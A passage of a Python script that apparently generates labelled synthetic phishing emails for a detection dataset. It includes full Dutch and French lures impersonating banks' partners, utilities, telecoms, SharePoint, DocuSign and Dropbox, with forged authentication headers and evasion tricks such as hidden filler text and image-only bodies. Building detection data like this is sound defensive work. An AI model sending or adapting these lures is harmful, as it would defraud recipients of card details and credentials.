            f"<a href=\"{url}\"><b style=\"font-family:Arial;font-size:22px;color:#0000a4;\">bol</b></a><br><br>\n"
            f"<a href=\"{url}\"><img src=\"{img}\" width=\"520\" alt=\"Gefeliciteerd! U bent geselecteerd\"></a><br>\n"
            f"<p style=\"font-family:Arial;font-size:14px;\">Beantwoord 3 korte vragen en ontvang een <b>Dyson V15</b> voor "
            f"slechts &euro;&nbsp;2,95 verzendkosten.</p>\n<a href=\"{url}\" style=\"font-family:Arial;font-size:16px;\">"
            "Start de enqu&ecirc;te &raquo;</a>\n"
            f"<div style=\"display:none;font-size:1px;color:#ffffff;\">{junk}</div>\n"
            "</center></body></html>\n")
    plain = f"Gefeliciteerd! U bent geselecteerd voor de bol klantenenquete.\n{url}\n\n{junk}\n"
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop, sig=dkim(dom, "s1", seed),
        core=[f"From: {addr('bol Klantenservice', 'info@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Gefeliciteerd! U bent geselecteerd 🎁 (#' + digits(seed + 's', 5) + ')')}", f"Date: {rfc(when)}",
              f"Message-ID: <{alnum(seed + 'm', 20)}@{dom}>",
              f"List-Unsubscribe: <https://{dom}/u/{alnum(seed + 'u', 16)}>"]),
        alt(seed, plain, html))
    add("phishing", "phish", "bol-enquete-googleapis", "bol 'you have been selected, answer 3 questions for a Dyson' "
        "survey scam from a throw-away domain, mostly one image with hidden filler text, page on storage.googleapis.com "
        "leading to a card subscription trap.", raw)


@msg
def p_ah_image_only():
    seed, when = "ah-image", T(2025, 3, 30, 9, 51, 14)
    rcpt, dom = "an.dejong@live.nl", "klantvoordeel-actie.nl"
    url = f"https://ah-bonus.klantvoordeel-actie.nl/r/{alnum(seed + 'r', 12)}"
    img = f"https://firebasestorage.googleapis.com/v0/b/ah-actie-{hx(seed, 4)}.appspot.com/o/ah-jubileum.png?alt=media"
    hop = Hop(ip="194.169.175.33", helo=f"s{digits(seed, 2)}.{dom}", mailfrom=f"actie@{dom}", spf="pass",
              dkim_res="pass", dkim_d=dom, dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    html = ("<html><head><meta charset=\"utf-8\"></head><body style=\"margin:0\">\n<table width=\"100%\"><tr><td align=\"center\">\n"
            f"<a href=\"{url}\"><img src=\"{img}\" width=\"600\" height=\"820\" border=\"0\" "
            "alt=\"Albert Heijn - jubileumactie\"></a>\n"
            f"</td></tr><tr><td align=\"center\" style=\"font-size:10px;color:#999;font-family:Arial;\">"
            f"<a href=\"{url}\" style=\"color:#999;\">Afmelden</a></td></tr></table>\n</body></html>\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        core=[f"From: {addr('Albert Heijn', 'actie@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw Bonuskaart: 1 ongebruikte beloning (€ 100 boodschappentegoed)')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'))
    add("phishing", "phish", "ah-bonus-image-only", "Albert Heijn 'ongebruikte beloning' reward scam that is a single "
        "remote image (hosted on Firebase storage) linked to the scam page; no text part, look-alike sender domain.", raw)


@msg
def p_nmbs_compensatie():
    seed, when = "nmbs-comp", T(2024, 9, 12, 16, 48, 26)
    rcpt, dom = "griet.desmet@telenet.be", "studiobianchi.it"
    url = f"https://nmbs-compensatie.web.app/nl/?dossier={digits(seed + 'd', 8)}"
    hop = Hop(ip="62.149.156.214", helo="smtpdh14.ad.aruba.it", mailfrom=f"info@{dom}", dkim_res="pass", dkim_d="aruba.it",
              dkim_s="a1", dmarc="none", hfrom=dom, policy="none")
    plain = ("NMBS\n\nBeste reiziger,\n\nU komt in aanmerking voor een vertragingscompensatie van € 24,80 voor uw reis\n"
             "Gent-Sint-Pieters – Brussel-Zuid. Vraag uw terugbetaling aan vóór 20/09/2024.\n\n"
             f"Compensatie aanvragen: {url}\n\nMet vriendelijke groeten,\nNMBS Klantendienst\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;\"><p style=\"color:#0069b4;font-size:20px;font-weight:bold;\">"
            "SNCB / NMBS</p><p>Beste reiziger,</p><p>U komt in aanmerking voor een vertragingscompensatie van <b>&euro;&nbsp;24,80"
            "</b> voor uw reis Gent-Sint-Pieters &ndash; Brussel-Zuid. Vraag uw terugbetaling aan v&oacute;&oacute;r 20/09/2024.</p>"
            f"<p><a href=\"{url}\">Compensatie aanvragen</a></p><p>Met vriendelijke groeten,<br>NMBS Klantendienst</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop,
        hops=[rcv(f"webmail.aruba.it ([{'185.220.101.44'}])", "smtpdh14.ad.aruba.it", when - timedelta(seconds=1),
                  "ESMTPSA", f"o8Uf{alnum(seed + 'ar', 12)}")],
        sig=dkim("aruba.it", "a1", seed, t=when),
        core=[f"From: {addr('NMBS - SNCB', 'info@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw vertragingscompensatie staat klaar')}", f"Date: {rfc(when)}",
              f"Message-ID: <{hx(seed, 32)}@{dom}>", "X-Mailer: Open-Xchange Mailer v7.10.6-Rev63"]),
        alt(seed, plain, html))
    add("phishing", "phish", "nmbs-compensatie-webapp", "NMBS 'vertragingscompensatie € 24,80' refund lure (Flemish) sent "
        "from a compromised Italian Aruba mailbox, link to a web.app page collecting card data.", raw)


@msg
def p_tol_sepa():
    seed, when = "tol-sepa", T(2025, 6, 2, 10, 3, 33)
    rcpt, dom = "m.de.boer@ziggo.nl", "kanzlei-hofmann.de"
    url = f"https://tolweg-betalen.info/blankenburg/?kenteken={alnum(seed + 'k', 8)}"
    hop = Hop(ip="85.13.163.48", helo="dd44120.kasserver.com", mailfrom=f"info@{dom}", spf="pass", dkim_res="none",
              dmarc="none", hfrom=dom, policy="none")
    plain = ("Tolweg - Blankenburgtunnel\n\nGeachte heer/mevrouw,\n\nDe automatische incasso (SEPA) voor uw doorrit(ten) door de "
             "Blankenburgtunnel\nop 24-05-2025 is geweigerd door uw bank. Openstaand bedrag: € 3,45.\n\n"
             "Voldoe het bedrag binnen 7 dagen om een naheffing van € 45,00 te voorkomen:\n"
             f"{url}\n\nRijkswaterstaat / Tolweg\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;max-width:600px\"><p style=\"background:#154273;color:#fff;"
            "padding:10px;\">Tolweg &ndash; Blankenburgtunnel</p><p>Geachte heer/mevrouw,</p><p>De automatische incasso (SEPA) "
            "voor uw doorrit(ten) door de Blankenburgtunnel op 24-05-2025 is geweigerd door uw bank. Openstaand bedrag: "
            "<b>&euro;&nbsp;3,45</b>.</p><p>Voldoe het bedrag binnen 7 dagen om een naheffing van &euro;&nbsp;45,00 te "
            f"voorkomen.</p><p><a href=\"{url}\" style=\"background:#154273;color:#fff;padding:8px 16px;text-decoration:none;\">"
            "Nu betalen</a></p><p>Rijkswaterstaat / Tolweg</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop,
        hops=[rcv(f"dd44120.kasserver.com (dd0802.kasserver.com [{'85.13.163.48'}])", "dd44120.kasserver.com (Postfix)",
                  when - timedelta(seconds=1), "ESMTPSA", HX(seed + 'ks', 10))],
        core=[f"From: {addr('Tolweg Blankenburgtunnel', 'info@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Incasso mislukt – openstaande tol Blankenburgtunnel')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: PHPMailer 6.5.0"]),
        alt(seed, plain, html))
    add("phishing", "phish", "tol-blankenburg-sepa", "Toll-road 'SEPA-incasso geweigerd' lure for the Blankenburgtunnel "
        "(€ 3,45 plus threatened naheffing) sent from a hacked German web host, link to a card-phishing site.", raw)


# ---------------------------------------------------------------------------
# attacks: energy, telecom, mailbox and cloud platforms
# ---------------------------------------------------------------------------

@msg
def p_eneco_teruggave():
    seed, when = "eneco-terug", T(2025, 1, 9, 8, 31, 50)
    rcpt, dom = "j.willems@hetnet.nl", "energie-terugbetaling.com"
    url = f"https://eneco-jaarafrekening.pages.dev/teruggave?klant={digits(seed + 'k', 9)}"
    hop = Hop(ip="91.92.243.117", helo=f"mail.{dom}", mailfrom=f"klantenservice@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="mail", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Eneco\n\nBeste klant,\n\nUit uw jaarafrekening 2024 blijkt dat u te veel voorschot heeft betaald. U ontvangt\n"
             "€ 213,48 terug. Wij hebben uw rekeningnummer nodig om het bedrag over te maken.\n\n"
             f"Teruggave aanvragen: {url}\n\nMet energieke groet,\nEneco Klantenservice\n")
    html = html_doc(card(
        "<p>Beste klant,</p><p>Uit uw jaarafrekening 2024 blijkt dat u te veel voorschot heeft betaald. U ontvangt "
        "<b>&euro;&nbsp;213,48</b> terug. Wij hebben uw rekeningnummer nodig om het bedrag over te maken.</p>"
        + button(url, "Teruggave aanvragen", "#e5004c") + "<p>Met energieke groet,<br>Eneco Klantenservice</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#e5004c;">eneco</span>',
        footer="Eneco Consumenten B.V. &middot; Postbus 1014 &middot; 3000 BA Rotterdam"), "Eneco")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop, sig=dkim(dom, "mail", seed),
        core=[f"From: {addr('Eneco', 'klantenservice@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw jaarafrekening 2024: u ontvangt geld terug')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: PHPMailer 6.9.3"]),
        alt(seed, plain, html))
    add("phishing", "phish", "eneco-teruggave-pagesdev", "Eneco 'te veel voorschot, u krijgt € 213,48 terug' refund lure "
        "from a look-alike domain, linking to a pages.dev form that asks for bank and card details.", raw)


@msg
def p_engie_remboursement():
    seed, when = "engie-rembours", T(2025, 11, 4, 14, 55, 6)
    rcpt, dom = "f.leclercq74@gmail.com", "mon-engie-be.com"
    url = f"https://mon-engie-be.com/fr/remboursement/{alnum(seed + 'r', 10)}"
    hop = Hop(ip="45.156.87.21", helo=f"mta.{dom}", mailfrom=f"facturation@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="s1", dmarc="pass", hfrom=dom, policy="none")
    plain = ("ENGIE\n\nChère cliente, cher client,\n\nSuite à la baisse des tarifs de l'énergie, votre décompte annuel fait "
             "apparaître\nun solde en votre faveur de 178,32 EUR. Pour recevoir ce remboursement, merci de confirmer\n"
             f"votre compte bancaire : {url}\n\nENGIE Belgium\n")
    html = html_doc(card(
        "<p>Ch&egrave;re cliente, cher client,</p><p>Suite &agrave; la baisse des tarifs de l&#39;&eacute;nergie, votre "
        "d&eacute;compte annuel fait appara&icirc;tre un solde en votre faveur de <b>178,32&nbsp;EUR</b>.</p>"
        "<p>Pour recevoir ce remboursement, merci de confirmer votre compte bancaire.</p>"
        + button(url, "Recevoir mon remboursement", "#00aaff") + "<p>ENGIE Belgium</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#00aaff;">ENGIE</span>',
        footer="ENGIE Belgium SA &ndash; Boulevard Sim&oacute;n Bol&iacute;var 36, 1000 Bruxelles"), "ENGIE", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop, sig=dkim(dom, "s1", seed, t=when),
        core=[f"From: {addr('ENGIE Belgium', 'facturation@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Remboursement de votre décompte annuel')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        alt(seed, plain, html))
    add("phishing", "phish", "engie-remboursement", "ENGIE Belgium 'remboursement décompte annuel' lure in French from a "
        "look-alike domain that hosts the card-phishing page itself.", raw)


@msg
def p_kpn_incasso():
    seed, when = "kpn-incasso", T(2024, 7, 15, 9, 20, 12)
    rcpt, dom = "r.hoekstra@kpnmail.nl", "mijnkpn-factuur.nl"
    url = f"https://mijnkpn-factuur.nl/betalen/{digits(seed + 'f', 8)}"
    hop = Hop(ip="185.208.158.90", helo=f"mail.{dom}", mailfrom=f"factuur@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    fnr = digits(seed + "f", 8)
    plain = ("KPN\n\nBeste klant,\n\nHet is ons niet gelukt uw factuur van juli (factuurnummer " + fnr + ", € 67,95)\n"
             "automatisch af te schrijven. Om afsluiting van uw internet en tv te voorkomen, vragen wij u het\n"
             f"bedrag binnen 3 dagen te voldoen via iDEAL:\n\n{url}\n\nMet vriendelijke groet,\nKPN\n")
    html = html_doc(card(
        f"<p>Beste klant,</p><p>Het is ons niet gelukt uw factuur van juli (factuurnummer {fnr}, <b>&euro;&nbsp;67,95</b>) "
        "automatisch af te schrijven. Om afsluiting van uw internet en tv te voorkomen, vragen wij u het bedrag binnen "
        "3 dagen te voldoen.</p>" + button(url, "Betaal met iDEAL", "#00c300") + "<p>Met vriendelijke groet,<br>KPN</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#00c300;">KPN</span>',
        footer="KPN B.V. &middot; Wilhelminakade 123 &middot; 3072 AP Rotterdam"), "KPN")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        core=[f"Date: {rfc(when)}", f"From: {addr('KPN', 'factuur@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Betaalherinnering: uw factuur kon niet worden geïncasseerd')}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
        alt(seed, plain, html))
    add("phishing", "phish", "kpn-incasso-mislukt", "KPN 'factuur kon niet worden geïncasseerd' lure with a threatened "
        "disconnection, from a registered look-alike .nl domain that also hosts the fake iDEAL page.", raw)


@msg
def p_telenet_webmail_wix():
    seed, when = "telenet-quota", T(2024, 12, 12, 7, 14, 40)
    rcpt, sender = "pol.vandamme@telenet.be", "dirk.verhaegen5@telenet.be"
    url = "https://telenetmail-quota.wixsite.com/login"
    hop = Hop(ip="195.130.132.52", helo="andre.telenet-ops.be", mailfrom=sender, dkim_res="pass", dkim_d="telenet.be",
              dkim_s="r24", dmarc="pass", hfrom="telenet.be", policy="quarantine")
    plain = ("Telenet Webmail\n\nBeste gebruiker,\n\nUw mailbox heeft 98% van de opslagruimte bereikt. Nieuwe berichten worden "
             "vanaf\nvandaag teruggestuurd naar de afzender.\n\n"
             f"Verhoog uw opslag gratis: {url}\n\nTelenet Support\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;\"><p style=\"font-size:18px;\"><b>Telenet</b> Webmail</p>"
            "<p>Beste gebruiker,</p><p>Uw mailbox heeft <b>98%</b> van de opslagruimte bereikt. Nieuwe berichten worden vanaf "
            "vandaag teruggestuurd naar de afzender.</p><div style=\"background:#eee;width:300px;height:14px;\">"
            "<div style=\"background:#d00;width:294px;height:14px;\"></div></div>"
            f"<p><a href=\"{url}\">Verhoog uw opslag gratis</a></p><p>Telenet Support</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop,
        hops=[rcv(f"[{'102.165.14.9'}] ([102.165.14.9])", "andre.telenet-ops.be", when - timedelta(seconds=1),
                  "cmsmtp", f"{alnum(seed + 'cm', 16)}")],
        sig=dkim("telenet.be", "r24", seed, t=when),
        core=[f"Date: {rfc(when)}", f"From: {addr('Telenet Webmail', sender)}", f"To: {addr('', 'undisclosed-recipients:;')}",
              f"Bcc: {rcpt}" if False else None, f"Subject: {enc('Uw mailbox is vol - actie vereist')}",
              f"Message-ID: <{hx(seed, 24)}@telenet.be>", "X-Mailer: Open-Xchange Mailer v7.10.6-Rev72"]),
        alt(seed, plain, html))
    add("phishing", "phish", "telenet-mailbox-vol-wix", "Telenet 'mailbox vol' credential lure sent from a hijacked "
        "telenet.be customer account (passes Telenet's own SPF/DKIM/DMARC) to other Telenet users, link to a Wix site.", raw)


@msg
def p_proximus_gforms():
    seed, when = "skynet-forms", T(2025, 2, 18, 13, 2, 21)
    rcpt, dom = "m.renard@skynet.be", "kantoor-vleugels.be"
    url = f"https://docs.google.com/forms/d/e/1FAIpQLS{urlsafe(seed + 'gf', 50)}/viewform?usp=sf_link"
    hop = Hop(ip="94.143.18.114", helo="smtp-out.combell.net", mailfrom=f"info@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="combell", dmarc="none", hfrom=dom, policy="none")
    plain = ("Proximus\n\nCher client Skynet,\n\nSuite à la migration de nos serveurs de messagerie, votre adresse @skynet.be "
             "doit être\nvalidée avant le 21/02/2025. Sans validation, elle sera désactivée.\n\n"
             f"Valider mon adresse : {url}\n\nL'équipe Proximus\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;\"><p style=\"color:#5c2d91;font-size:20px;font-weight:bold;\">"
            "Proximus</p><p>Cher client Skynet,</p><p>Suite &agrave; la migration de nos serveurs de messagerie, votre adresse "
            "@skynet.be doit &ecirc;tre valid&eacute;e avant le <b>21/02/2025</b>. Sans validation, elle sera "
            f"d&eacute;sactiv&eacute;e.</p><p><a href=\"{url}\">Valider mon adresse</a></p><p>L&#39;&eacute;quipe Proximus</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop,
        hops=[rcv(f"webmail.combell.com ([{'41.82.190.7'}])", "smtp-out.combell.net", when - timedelta(seconds=1),
                  "ESMTPA", HX(seed + 'cb', 12))],
        sig=dkim(dom, "combell", seed),
        core=[f"Date: {rfc(when)}", f"From: {addr('Proximus Webmail', 'info@' + dom)}", "To: undisclosed-recipients:;",
              f"Subject: {enc('Validation de votre adresse Skynet')}", f"Message-ID: <{hx(seed, 32)}@{dom}>",
              "User-Agent: Roundcube Webmail/1.6.5"]),
        alt(seed, plain, html))
    add("phishing", "phish", "skynet-validation-gforms", "Proximus/Skynet 'valider votre adresse' webmail lure in French from "
        "a compromised Belgian SME mailbox, the credential form being a Google Forms page.", raw)


@msg
def p_sharepoint_compromised_tenant():
    seed, when = "spo-jaarrekening", T(2025, 4, 15, 15, 26, 3)
    tenant = "bakkerijdekroon.nl"
    rcpt = f"info@{tenant}"
    share = (f"https://vdbergaccountants.sharepoint.com/:o:/s/Klanten/E{alnum(seed + 'sp', 45)}?e={alnum(seed + 'e', 6)}"
             f"&at=9")
    hop = Hop(ip="40.107.162.101", helo="EUR05-DB8-obe.outbound.protection.outlook.com", mailfrom="no-reply@sharepointonline.com",
              dkim_res="pass", dkim_d="sharepointonline.com", dkim_s="selector1", dmarc="pass", hfrom="sharepointonline.com",
              policy="reject")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>\n"
            "<table width=\"100%\" style=\"font-family:'Segoe UI',Tahoma,sans-serif;\"><tr><td style=\"padding:24px;\">\n"
            "<p style=\"font-size:21px;color:#333;\">Jeroen van den Berg heeft een bestand met u gedeeld</p>\n"
            "<p style=\"font-size:14px;color:#333;\">Jaarrekening 2024 ter ondertekening - zie de notitie voor de link naar het "
            "beveiligde document.</p>\n"
            f"<table style=\"border:1px solid #e1e1e1;\"><tr><td style=\"padding:12px;font-size:14px;\">"
            f"<a href=\"{share}\" style=\"color:#0078d4;text-decoration:none;\">Jaarrekening 2024 - Bakkerij De Kroon</a></td></tr></table>\n"
            f"<p><a href=\"{share}\" style=\"background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none;\">Openen</a></p>\n"
            "<p style=\"font-size:12px;color:#666;\">Deze koppeling werkt alleen voor de directe ontvangers van dit bericht.</p>\n"
            "<p style=\"font-size:11px;color:#888;\"><img src=\"https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/"
            "assets/brand-icons/product/png/onenote_32x1.png\" width=\"16\" alt=\"\"> Microsoft respecteert uw privacy. "
            "Lees onze privacyverklaring: <a href=\"https://go.microsoft.com/fwlink/?LinkId=521839\">Privacyverklaring</a>"
            "<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>\n"
            "</td></tr></table></body></html>\n")
    plain = ("Jeroen van den Berg heeft een bestand met u gedeeld\n\nJaarrekening 2024 ter ondertekening - zie de notitie voor "
             f"de link naar het beveiligde document.\n\nJaarrekening 2024 - Bakkerij De Kroon\n{share}\n\n"
             "Deze koppeling werkt alleen voor de directe ontvangers van dit bericht.\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop,
        hops=[rcv(f"AM9PR04MB{digits(seed + 'a', 4)}.eurprd04.prod.outlook.com (2603:10a6:20b:{hx(seed + 'v', 3)}::{hx(seed + 'w', 2)})",
                  f"DB8PR04MB{digits(seed + 'b', 4)}.eurprd04.prod.outlook.com (2603:10a6:10:{hx(seed + 'x', 3)}::{hx(seed + 'y', 2)})",
                  when - timedelta(seconds=1), "Microsoft SMTP Server (version=TLS1_2,\n\t cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)",
                  f"15.20.8632.{int(digits(seed + 'z', 2)) % 40}", stamp=rfc_utc(when - timedelta(seconds=1)))],
        sig=dkim("sharepointonline.com", "selector1", seed, signed="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
        core=[f"From: {addr('Jeroen van den Berg', 'no-reply@sharepointonline.com')}", f"To: {rcpt}",
              f"Subject: {enc('Jeroen van den Berg heeft Jaarrekening 2024 - Bakkerij De Kroon met u gedeeld')}",
              f"Date: {rfc_utc(when)}", f"Message-ID: <{guid(seed + 'spo')}@odspnotify>",
              "X-MS-Exchange-Organization-OriginalSize: 18812", f"X-Sharing-Request-Id: {guid(seed + 'req')}",
              "X-Sharing-Item-Type: OneNote", "Content-Language: nl-NL"]),
        alt(seed, plain, html))
    add("phishing", "phish", "sharepoint-onenote-compromised-accountant", "Genuine SharePoint sharing notification "
        "(no-reply@sharepointonline.com, passes everything) from an accountant's compromised tenant: the shared OneNote "
        "'Jaarrekening 2024' only holds a link to an adversary-in-the-middle Microsoft login.", raw)


@msg
def p_docusign_abused():
    seed, when = "docusign-factuur", T(2025, 10, 27, 11, 9, 58)
    tenant = "tandartspraktijk-zuidwijk.nl"
    rcpt = f"administratie@{tenant}"
    env, acct, er = guid(seed + "env"), guid(seed + "acct"), guid(seed + "er")
    sign = f"https://eu.docusign.net/Signing/EmailStart.aspx?a={env}&etti=24&acct={acct}&er={er}"
    hop = Hop(ip="185.81.103.78", helo="mailout-eu.docusign.net", mailfrom="bounces@eumail.docusign.net",
              dkim_res="pass", dkim_d="eumail.docusign.net", dkim_s="mail", dmarc="pass", hfrom="eumail.docusign.net",
              policy="reject")
    plain = ("Dental Supply Benelux via Docusign\n\nBeoordeel en onderteken het document:\n\n"
             "Openstaande facturen Q3 2025 - betalingsbevestiging vereist\n\n"
             f"DOCUMENT BEOORDELEN: {sign}\n\n"
             "Dental Supply Benelux\nfinance@dentalsupply-benelux.com\n\nGeachte relatie, in verband met een wijziging "
             "van ons factuursysteem verzoeken wij u de\nopenstaande facturen te controleren en te bevestigen.\n\n"
             "Deel deze e-mail niet\nDeze e-mail bevat een beveiligde link naar Docusign. Deel deze e-mail, link of toegangscode "
             "niet met anderen.\n")
    html = html_doc(
        '<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;"><tr><td align="center" style="padding:20px;">'
        '<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;">'
        '<tr><td style="padding:24px;"><img src="https://eu.docusign.net/Signing/Images/email/Email_Logo.png" width="116" '
        'alt="Docusign"></td></tr>'
        '<tr><td style="background:#1e4ca1;color:#ffffff;padding:28px;text-align:center;font-size:16px;">'
        'Dental Supply Benelux heeft u een document verzonden om te beoordelen en te ondertekenen.<br><br>'
        f'<a href="{sign}" style="background:#ffc820;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold;'
        'font-size:14px;">DOCUMENT BEOORDELEN</a></td></tr>'
        '<tr><td style="padding:24px;font-size:15px;color:#333;"><b>Dental Supply Benelux</b><br>'
        '<a href="mailto:finance@dentalsupply-benelux.com">finance@dentalsupply-benelux.com</a><br><br>'
        'Geachte relatie, in verband met een wijziging van ons factuursysteem verzoeken wij u de openstaande facturen te '
        'controleren en te bevestigen.</td></tr>'
        '<tr><td style="padding:24px;font-size:11px;color:#666;background:#f4f4f4;"><b>Deel deze e-mail niet</b><br>Deze e-mail '
        'bevat een beveiligde link naar Docusign. Deel deze e-mail, link of toegangscode niet met anderen.<br><br>'
        '<b>Over Docusign</b><br>Onderteken documenten elektronisch in slechts enkele minuten.</td></tr>'
        '</table></td></tr></table>', "Docusign")
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop,
        sig=dkim("eumail.docusign.net", "mail", seed, signed="From:To:Reply-To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        core=[f"From: {addr('Dental Supply Benelux via Docusign', 'dse@eumail.docusign.net')}", f"To: {addr('Administratie', rcpt)}",
              f"Reply-To: {addr('Dental Supply Benelux', 'finance@dentalsupply-benelux.com')}",
              f"Subject: {enc('Voltooi met Docusign: Openstaande facturen Q3 2025 - betalingsbevestiging')}",
              f"Date: {rfc_utc(when)}", f"Message-ID: <{hx(seed + 'ds', 32)}@docusign.net>",
              f"X-DocuSign-Envelope-Id: {env.upper()}", "X-Priority: 3"]),
        alt(seed, plain, html))
    add("phishing", "phish", "docusign-envelope-abused", "Real DocuSign envelope (eumail.docusign.net, passes DKIM/DMARC) "
        "sent from a throw-away DocuSign account posing as a dental supplier; the 'facturen' document leads to a "
        "credential page and the Reply-To is the fraudster's look-alike domain.", raw)


@msg
def p_dropbox_lookalike():
    seed, when = "dropbox-offerte", T(2024, 5, 22, 10, 40, 8)
    tenant = "schilderwerken-jansen.nl"
    rcpt, dom = f"kees@{tenant}", "dropbox-filesharing.net"
    url = f"https://www.dropbox.com-shared.link/scl/fi/{alnum(seed + 'f', 20).lower()}/Offerte_2024-118.pdf?rlkey={alnum(seed + 'k', 25).lower()}"
    hop = Hop(ip="38.180.62.131", helo=f"mail.{dom}", mailfrom=f"no-reply@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="dkim", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Marco Smits heeft \"Offerte_2024-118.pdf\" met je gedeeld\n\n\"Hoi Kees, hierbij de offerte voor het schilderwerk "
             "van de school, graag je akkoord.\"\n\n"
             f"Bestand bekijken: {url}\n\nVeel plezier!\nHet Dropbox-team\n")
    html = html_doc(card(
        "<p style=\"font-size:18px;\"><b>Marco Smits</b> heeft &quot;Offerte_2024-118.pdf&quot; met je gedeeld</p>"
        "<p style=\"color:#637282;\">&quot;Hoi Kees, hierbij de offerte voor het schilderwerk van de school, graag je "
        "akkoord.&quot;</p>" + button(url, "Bestand bekijken", "#0061fe") + "<p>Veel plezier!<br>Het Dropbox-team</p>",
        header='<span style="font-family:Arial;font-size:22px;color:#0061fe;font-weight:bold;">Dropbox</span>',
        footer="Dropbox, Inc., PO Box 77767, San Francisco, CA 94107"), "Dropbox")
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, sig=dkim(dom, "dkim", seed),
        core=[f"From: {addr('Dropbox', 'no-reply@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Marco Smits heeft Offerte_2024-118.pdf met je gedeeld')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        alt(seed, plain, html))
    add("phishing", "phish", "dropbox-share-lookalike", "Fake Dropbox share notification ('offerte' for a painter's firm) "
        "from a look-alike domain; the link host is www.dropbox.com-shared.link, a credential page.", raw)


@msg
def p_cns_lu_compromised():
    seed, when = "cns-rembours", T(2025, 5, 13, 9, 45, 17)
    rcpt, dom = "claude.hoffmann@gmail.com", "garage-muller.lu"
    url = f"https://cns-remboursement-lu.pages.dev/?dossier={digits(seed + 'd', 10)}"
    hop = Hop(ip="194.154.200.52", helo="relay.pt.lu", rdns="relay.pt.lu", mailfrom=f"info@{dom}", dkim_res="none",
              dmarc="none", hfrom=dom, policy="none")
    plain = ("CNS - Caisse nationale de santé\n\nMadame, Monsieur,\n\nNous vous informons qu'un remboursement de 96,40 EUR "
             "relatif à vos frais médicaux\nn'a pas pu être versé, vos coordonnées bancaires n'étant plus valides.\n\n"
             f"Mettre à jour vos coordonnées : {url}\n\nCNS - Service remboursements\n125, route d'Esch, L-1471 Luxembourg\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;\"><p><b style=\"color:#00549f;\">CNS</b> &ndash; Caisse nationale de "
            "sant&eacute;</p><p>Madame, Monsieur,</p><p>Nous vous informons qu&#39;un remboursement de <b>96,40 EUR</b> relatif "
            "&agrave; vos frais m&eacute;dicaux n&#39;a pas pu &ecirc;tre vers&eacute;, vos coordonn&eacute;es bancaires "
            f"n&#39;&eacute;tant plus valides.</p><p><a href=\"{url}\">Mettre &agrave; jour vos coordonn&eacute;es</a></p>"
            "<p>CNS &ndash; Service remboursements<br>125, route d&#39;Esch, L-1471 Luxembourg</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        hops=[rcv(f"[192.168.1.23] ({'156.146.59.12'})", "relay.pt.lu (POST Luxembourg)", when - timedelta(seconds=1),
                  "ESMTPSA", HX(seed + 'pl', 14))],
